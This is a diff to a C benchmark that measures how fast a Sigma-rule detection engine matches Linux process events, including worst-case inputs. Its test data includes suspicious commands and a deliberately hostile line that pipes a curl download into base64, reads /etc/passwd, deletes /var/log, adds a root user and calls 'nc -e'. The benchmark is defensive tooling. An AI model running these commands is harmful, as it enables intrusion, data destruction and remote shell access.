@@ -2,17 +2,23 @@
 /*
  * How many process events a second go through Sigma rules on one core: with 10, 100 and
  * all rules of ../shared/data/sigma, beside the floor: a single rule on one short field,
- * which is what asking and reporting nothing costs. Events are unlike each other and
- * nearly none matches, as on a real machine. Rounds in turn, the best of each.
+ * which is what asking and reporting nothing costs. Events are what a machine does that
+ * builds, serves and is looked after; one in thirty does what a rule looks for. Rounds in
+ * turn, the best of each. Then how the cost grows with the rules, and the dearest events.
  *
- *     {"bench":"sigma_events","rules":303,"events_per_s":..,"floor_events_per_s":..,
- *      "looked_at_per_event":..,"matches":..}
- *     {"bench":"sigma_memory","rules":..,"load_ms":..,"rss_mb":..,"goal_mb":60}
+ *     {"bench":"sigma_memory","rules":505,"load_ms":..,"rss_mb":..,"goal_mb":60}
+ *     {"bench":"sigma_events","rules":505,"rules_of_source":..,"events_per_s":..,
+ *      "goal":300000,"floor_events_per_s":..,"ratio":..,"looked_at_per_event":..,
+ *      "matches_per_event":..}
+ *     {"bench":"sigma_flatness","rules_from":10,"rules_to":505,"cost_ratio":..,
+ *      "ns_per_rule":..}
+ *     {"bench":"sigma_worst","case":"..","bytes":65536,"us":..}
  */
 #include <dirent.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <strings.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -22,12 +28,16 @@
 #define EVENTS 512 /* different ones */
 #define ROUND_EVENTS 200000
 #define ROUNDS 3
-#define FIELDS 9
+#define FIELDS 10
+#define VALUES_MAX 2 /* of a field */
 #define PATHS_MAX 2048
+#define WORST_BYTES 65536
+#define WORST_ARGS 4096
+#define WORST_ROUNDS 20
 
 struct process_event {
-    struct tocsin_str values[FIELDS];
-    char texts[FIELDS][256];
+    struct tocsin_str values[FIELDS][VALUES_MAX];
+    char texts[FIELDS][320];
 };
 
 struct rules {
@@ -45,7 +55,7 @@ struct paths {
 
 static const char *const names[FIELDS] = {
     "Image",     "CommandLine",      "ParentImage", "ParentCommandLine", "User",
-    "ProcessId", "CurrentDirectory", "LogonId",     "ParentProcessId"};
+    "ProcessId", "CurrentDirectory", "LogonId",     "ParentProcessId",   "ParentUser"};
 
 /* Of this thread on a core: whatever else the machine does takes none of it. */
 static double now_s(void)
@@ -64,49 +74,93 @@ static void die(const char *what)
 
 /* ---- Events ---- */
 
+/* What runs: the resolved executable, the one that was asked for, and its arguments. */
+static const struct command {
+    const char *image, *asked, *arguments;
+} commands[] = {
+    {"/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/gcc",
+     "-Dtocsin_EXPORTS -I../include -O2 -g -Wall -Wextra -D_FORTIFY_SOURCE=3 -fPIE "
+     "-std=gnu11 -MD -MT core/agent.c.o -MF core/agent.c.o.d -o core/agent.c.o -c"},
+    {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
+     "-quiet -imultiarch x86_64-linux-gnu -dumpbase loader.c -mtune=generic -O2 -o "
+     "/tmp/ccWq31xY.s"},
+    {"/usr/bin/x86_64-linux-gnu-as", "as", "--64 -o core/loader.c.o /tmp/ccWq31xY.s"},
+    {"/usr/bin/x86_64-linux-gnu-ld.bfd", "/usr/bin/ld",
+     "-pie -dynamic-linker /lib64/ld-linux-x86-64.so.2 -z now -z relro -o tocsind "
+     "Scrt1.o crti.o -lc --as-needed -lgcc_s"},
+    {"/usr/bin/make", "make", "-C build all VERBOSE=1 PREFIX=/usr/local"},
+    {"/usr/bin/dash", "/bin/sh",
+     "-c 'test -f config.status && ./config.status --recheck'"},
+    {"/usr/bin/sed", "sed", "-e 's/^Version: .*/Version: 1.2.3/' packaging/control"},
+    {"/usr/bin/git", "git", "log --pretty=format:%h%x09%an --since=2.weeks -- src/"},
+    {"/usr/bin/python3.11", "/usr/bin/python3",
+     "-m unittest discover -s tests -p 'test_*.py'"},
+    {"/usr/bin/dash", "/bin/sh",
+     "-c '[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean'"},
+    {"/usr/lib/postgresql/15/bin/postgres", "/usr/lib/postgresql/15/bin/postgres",
+     "-D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/postgresql.conf"},
+    {"/usr/bin/bash", "bash", "/usr/local/bin/deploy.sh --environment staging --dry-run"},
+    {"/usr/bin/grep", "grep", "-rn --include=*.c return_value ."},
+    {"/usr/bin/dpkg", "/usr/bin/dpkg",
+     "--status-fd 23 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/"},
+    {"/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2",
+     "-namespace moby -id 6f1d9c1d0b7b -address /run/containerd/containerd.sock"},
+    {"/usr/bin/node", "node",
+     "--max-old-space-size=4096 node_modules/.bin/webpack --mode "
+     "production --config webpack.config.js"},
+    {"/usr/sbin/sshd", "/usr/sbin/sshd", "-D -R"},
+};
+
+/* What rules look for, and now and then find where nothing is wrong. */
+static const struct command odd[] = {
+    {"/usr/bin/find", "find", "/var/cache/apt -name '*.deb' -mtime +30 -print0"},
+    {"/usr/bin/rsync", "rsync", "-a --delete /srv/www/ backup.example.org:/backup/www/"},
+    {"/usr/bin/stat", "stat", "-c %Y /etc/resolv.conf"},
+    {"/usr/bin/crontab", "crontab", "-l"},
+    {"/usr/bin/base64", "base64", "-d /tmp/.x"},
+    {"/usr/bin/nohup", "nohup", "/tmp/miner"},
+    {"/usr/bin/chmod", "chmod", "777 /tmp/run.sh"},
+};
+
+#define COUNT(array) (sizeof(array) / sizeof(*(array)))
+
+static void set_text(struct process_event *event, size_t field, size_t value,
+                     const char *text)
+{
+    event->values[field][value] = (struct tocsin_str){text, strlen(text)};
+}
+
 static void make_event(struct process_event *event, unsigned i)
 {
-    static const char *const images[] = {
-        "/usr/bin/gcc",     "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
-        "/usr/bin/make",    "/usr/bin/dash",
-        "/usr/bin/sed",     "/usr/bin/git",
-        "/usr/bin/python3", "/usr/sbin/cron",
-    };
-    static const char *const arguments[] = {
-        "-O2 -g -Wall -Wextra -D_FORTIFY_SOURCE=3 -I../include -o core/agent.c.o -c",
-        "-quiet -imultiarch x86_64-linux-gnu -dumpbase loader.c -mtune=generic",
-        "-C build all VERBOSE=1 PREFIX=/usr/local",
-        "-c 'test -f config.status && ./config.status --recheck'",
-        "-e 's/^Version: .*/Version: 1.2.3/' -i packaging/control",
-        "log --pretty=format:%h%x09%an --since=2.weeks -- src/",
-        "-m unittest discover -s tests -p 'test_*.py'",
-        "-f -L 15",
-    };
-    const char *image = images[i % 8];
-    char(*t)[256] = event->texts;
+    const struct command *command =
+        i % 30 == 29 ? &odd[i / 30 % COUNT(odd)] : &commands[i * 7 % COUNT(commands)];
+    const struct command *parent = &commands[i / 8 % COUNT(commands)];
+    char(*t)[320] = event->texts;
 
-    snprintf(t[0], sizeof(t[0]), "%s", image);
-    snprintf(t[1], sizeof(t[1]), "%s %s /srv/build/%u/file-%u.c", image, arguments[i % 8],
-             i, i * 7919);
-    snprintf(t[2], sizeof(t[2]), "%s", images[(i / 8) % 8]);
-    snprintf(t[3], sizeof(t[3]), "%s %s", images[(i / 8) % 8], arguments[(i / 8) % 8]);
+    snprintf(t[1], sizeof(t[1]), "%s %s /srv/build/%u/file-%u.c", command->asked,
+             command->arguments, i, i * 7919);
+    snprintf(t[3], sizeof(t[3]), "%s %s", parent->asked, parent->arguments);
     snprintf(t[4], sizeof(t[4]), "builder%u", i % 5);
     snprintf(t[5], sizeof(t[5]), "%u", 1000 + i);
     snprintf(t[6], sizeof(t[6]), "/srv/build/%u", i);
     snprintf(t[7], sizeof(t[7]), "%u", 1000 + i % 5);
     snprintf(t[8], sizeof(t[8]), "%u", 900 + i / 8);
+    snprintf(t[9], sizeof(t[9]), "builder%u", i / 8 % 5);
     for (size_t f = 0; f < FIELDS; f++)
-        event->values[f] = (struct tocsin_str){t[f], strlen(t[f])};
+        set_text(event, f, 0, t[f]);
+    set_text(event, 0, 0, command->image);
+    set_text(event, 0, 1, command->asked);
+    set_text(event, 2, 0, parent->image);
 }
 
 static bool field(void *arg, const char *name, size_t index, struct tc_sigma_value *ret)
 {
     const struct process_event *event = arg;
 
-    for (size_t i = 0; index == 0 && i < FIELDS; i++)
+    for (size_t i = 0; index < VALUES_MAX && i < FIELDS; i++)
         if (!strcmp(names[i], name)) {
-            *ret = (struct tc_sigma_value){TC_SIGMA_TEXT, event->values[i], 0};
-            return true;
+            *ret = (struct tc_sigma_value){TC_SIGMA_TEXT, event->values[i][index], 0};
+            return event->values[i][index].ptr != NULL;
         }
     return false;
 }
@@ -115,9 +169,11 @@ static bool any(void *arg, size_t index, struct tc_sigma_value *ret)
 {
     const struct process_event *event = arg;
 
-    if (index >= FIELDS)
+    if (index > FIELDS)
         return false;
-    *ret = (struct tc_sigma_value){TC_SIGMA_TEXT, event->values[index], 0};
+    /* The second value of Image is the last. */
+    *ret = (struct tc_sigma_value){TC_SIGMA_TEXT,
+                                   event->values[index % FIELDS][index / FIELDS], 0};
     return true;
 }
 
@@ -182,10 +238,16 @@ static void count_match(void *arg, const struct tc_sigma_match *match)
     rules->matches++;
 }
 
+/* As the agent has it: an event that is of no service is none of a service's log. */
+static const struct tc_sigma_event process_creation = {.category = "process_creation",
+                                                       .product = "linux",
+                                                       .service = "",
+                                                       .field = field,
+                                                       .any = any};
+
 static void run(struct rules *rules, struct process_event *events)
 {
-    struct tc_sigma_event event = {
-        .category = "process_creation", .product = "linux", .field = field, .any = any};
+    struct tc_sigma_event event = process_creation;
     double start = now_s(), rate;
 
     for (unsigned i = 0; i < ROUND_EVENTS; i++) {
@@ -208,17 +270,141 @@ static double rss_mb(void)
     return (double)pages * (double)sysconf(_SC_PAGESIZE) / (1 << 20);
 }
 
+static bool agrees(const char *rule, const char *event)
+{
+    return !rule || !strcasecmp(rule, event);
+}
+
+/* How many of the rules are for these events; the others cost them nothing. */
+static size_t of_source(const struct tc_sigma_set *set)
+{
+    size_t count = 0;
+
+    for (size_t i = 0; i < tc_sigma_count(set); i++) {
+        const struct tc_sigma_rule *rule = tc_sigma_rule(set, i);
+
+        count += agrees(rule->category, process_creation.category) &&
+                 agrees(rule->product, process_creation.product) &&
+                 agrees(rule->service, process_creation.service);
+    }
+    return count;
+}
+
 static void report(const struct rules *rules, const struct rules *floor)
 {
     struct tc_sigma_counters counters;
 
     tc_sigma_counters(rules->scratch, &counters);
-    printf("{\"bench\":\"sigma_events\",\"rules\":%zu,\"events_per_s\":%.0f,"
-           "\"floor_events_per_s\":%.0f,\"ratio\":%.2f,\"goal\":300000,"
-           "\"looked_at_per_event\":%.3f,\"matches_per_event\":%.4f}\n",
-           rules->count, rules->best, floor->best, rules->best / floor->best,
+    printf("{\"bench\":\"sigma_events\",\"rules\":%zu,\"rules_of_source\":%zu,"
+           "\"events_per_s\":%.0f,\"goal\":300000,\"floor_events_per_s\":%.0f,"
+           "\"ratio\":%.2f,\"looked_at_per_event\":%.3f,\"matches_per_event\":%.4f}\n",
+           rules->count, of_source(rules->set), rules->best, floor->best,
+           rules->best / floor->best,
            (double)counters.looked_at / (double)counters.events,
            (double)counters.matched / (double)counters.events);
+}
+
+static void report_flatness(const struct rules *few, const struct rules *all)
+{
+    double few_ns = 1e9 / few->best, all_ns = 1e9 / all->best;
+
+    printf("{\"bench\":\"sigma_flatness\",\"rules_from\":%zu,\"rules_to\":%zu,"
+           "\"cost_ratio\":%.2f,\"ns_per_rule\":%.2f}\n",
+           few->count, all->count, all_ns / few_ns,
+           (all_ns - few_ns) / (double)(all->count - few->count));
+}
+
+/* ---- The dearest events ---- */
+
+struct dear_event {
+    struct process_event process;
+    struct tocsin_str args[WORST_ARGS]; /* a0, a1, ... of a record of auditd */
+    size_t arg_count;
+};
+
+static bool record_field(void *arg, const char *name, size_t index,
+                         struct tc_sigma_value *ret)
+{
+    const struct dear_event *event = arg;
+    size_t n;
+
+    *ret = (struct tc_sigma_value){TC_SIGMA_TEXT, {"EXECVE", 6}, 0};
+    if (index == 0 && !strcmp(name, "type"))
+        return true;
+    if (index || name[0] != 'a' || name[1] < '0' || name[1] > '9')
+        return false;
+    n = strtoul(name + 1, NULL, 10);
+    if (n < event->arg_count)
+        ret->text = event->args[n];
+    return n < event->arg_count;
+}
+
+static bool record_any(void *arg, size_t index, struct tc_sigma_value *ret)
+{
+    const struct dear_event *event = arg;
+
+    if (index >= event->arg_count)
+        return false;
+    *ret = (struct tc_sigma_value){TC_SIGMA_TEXT, event->args[index], 0};
+    return true;
+}
+
+static void measure_dear(struct rules *rules, const struct tc_sigma_event *event,
+                         const char *what)
+{
+    double least = 0, took;
+
+    for (int round = 0; round < WORST_ROUNDS; round++) {
+        took = now_s();
+        tc_sigma_evaluate(rules->set, rules->scratch, event, count_match, rules);
+        took = now_s() - took;
+        least = !round || took < least ? took : least;
+    }
+    printf("{\"bench\":\"sigma_worst\",\"case\":\"%s\",\"bytes\":%d,\"us\":%.0f}\n", what,
+           WORST_BYTES, least * 1e6);
+}
+
+/* Command lines of 64 KiB that say one thing again and again. */
+static void measure_worst(struct rules *rules, const struct process_event *usual)
+{
+    static const struct {
+        const char *what, *text;
+    } cases[] = {
+        {"a compiler's command line",
+         " -I/usr/include/glib-2.0 -DNAME=value -Wl,-rpath,/usr/lib src/main.c"},
+        {"one letter", "a"},
+        {"slashes", "/"},
+        {"text that many rules look for",
+         " /bin/sh -c 'curl http://1.2.3.4/x|base64 -d >/tmp/x; chmod 777 /tmp/x; nohup "
+         "crontab -l; cat /etc/passwd; rm -rf /var/log; useradd -o -u 0 x; nc -e' &"},
+    };
+    struct tc_sigma_event event = process_creation, record = process_creation;
+    struct dear_event *dear = calloc(1, sizeof(*dear));
+    char *text = malloc(WORST_BYTES);
+
+    if (!dear || !text)
+        die("out of memory");
+    dear->process = *usual;
+    event.arg = &dear->process;
+    for (size_t i = 0; i < COUNT(cases); i++) {
+        for (size_t n = 0; n < WORST_BYTES; n++)
+            text[n] = cases[i].text[n % strlen(cases[i].text)];
+        for (size_t f = 1; f <= 3; f += 2) /* its own and its parent's */
+            dear->process.values[f][0] = (struct tocsin_str){text, WORST_BYTES};
+        measure_dear(rules, &event, cases[i].what);
+    }
+    record.category = "";
+    record.service = "auditd";
+    record.field = record_field;
+    record.any = record_any;
+    record.arg = dear;
+    dear->arg_count = WORST_ARGS;
+    for (size_t i = 0; i < WORST_ARGS; i++)
+        dear->args[i] = (struct tocsin_str){text + i * (WORST_BYTES / WORST_ARGS),
+                                            WORST_BYTES / WORST_ARGS};
+    measure_dear(rules, &record, "4096 arguments of a record of auditd");
+    free(text);
+    free(dear);
 }
 
 int main(void)
@@ -257,6 +443,8 @@ int main(void)
     }
     for (size_t i = 0; i < 3; i++)
         report(&sets[i], &floor);
+    report_flatness(&sets[0], &sets[2]);
+    measure_worst(&sets[2], events);
     for (size_t i = 0; i < 3; i++) {
         tc_sigma_scratch_free(sets[i].scratch);
         tc_sigma_set_free(sets[i].set);
